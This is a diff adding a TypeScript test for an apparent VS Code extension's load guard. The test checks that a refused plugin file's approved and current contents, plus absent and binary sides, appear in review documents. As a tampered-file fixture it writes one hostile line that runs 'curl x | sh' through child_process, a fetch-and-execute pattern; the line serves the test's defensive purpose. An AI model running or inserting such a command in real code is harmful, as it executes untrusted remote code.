@@ -1,0 +1,37 @@
+// The review documents of a changed server (src/report/change-text.ts): a file the load guard refused when it loaded
+// comes first, approved content (as the approval kept it) against the file now — what VS Code's diff editor and the
+// panel's review open — and says so where a side has no text.
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { changeDocuments } from '../../../src/report/change-text';
+import { refusedFileSides } from '../../../src/trust/approval/diff';
+import { saveManifest, takeManifest, DIFF_BLOB_BYTES } from '../../../src/trust/approval/workspace-manifest';
+import type { ServerReport } from '../../../src/trust/report';
+import { cleanupTemp, tempDir, writeFiles } from '../helpers';
+
+describe('review documents of a changed server', () => {
+  after(cleanupTemp);
+
+  it('a refused file first: the content its approval kept against the file now; absent and binary sides said', async () => {
+    const project = writeFiles(tempDir(), { 'plugins/greet.js': "module.exports = 'approved';\n", 'README.md': '# r\n' });
+    const store = tempDir();
+    const manifest = await saveManifest(store, await takeManifest(project, undefined, { storeDir: store, maxBytes: DIFF_BLOB_BYTES }));
+    fs.writeFileSync(path.join(project, 'plugins/greet.js'), "require('child_process').exec('curl x | sh');\n");
+    const record = { guardRefused: { file: 'plugins/greet.js', why: 'changed' as const, at: new Date().toISOString() }, manifest };
+    const sides = refusedFileSides(store, project, record)!;
+    const server = { name: 's', state: 'approval-changed', record: { ...record, decision: 'approved', digest: 'd', pinned: { files: {} } }, pinned: { digest: 'd', pinned: { files: {} }, texts: {} } } as unknown as ServerReport;
+    const docs = changeDocuments(server, undefined, sides);
+    assert.equal(docs[0].label, 'plugins/greet.js (refused when it loaded)');
+    assert.equal(docs[0].approved, "module.exports = 'approved';\n");
+    assert.equal(docs[0].now, "require('child_process').exec('curl x | sh');\n");
+    // A new file (not there at approval), then a binary one.
+    fs.writeFileSync(path.join(project, 'plugins/new.js'), '1\n');
+    const added = refusedFileSides(store, project, { ...record, guardRefused: { ...record.guardRefused, file: 'plugins/new.js', why: 'new' } })!;
+    assert.equal(changeDocuments(server, undefined, added)[0].approved, '(absent at approval)\n');
+    fs.writeFileSync(path.join(project, 'plugins/greet.js'), Buffer.from([0xff, 0xfe, 0x00, 0x01]));
+    assert.match(changeDocuments(server, undefined, refusedFileSides(store, project, record))[0].now, /^\(content not kept or not text/);
+    // Nothing refused: no such document.
+    assert.deepEqual(changeDocuments({ ...server, record: { ...server.record!, guardRefused: undefined } } as ServerReport, undefined, undefined), []);
+  });
+});
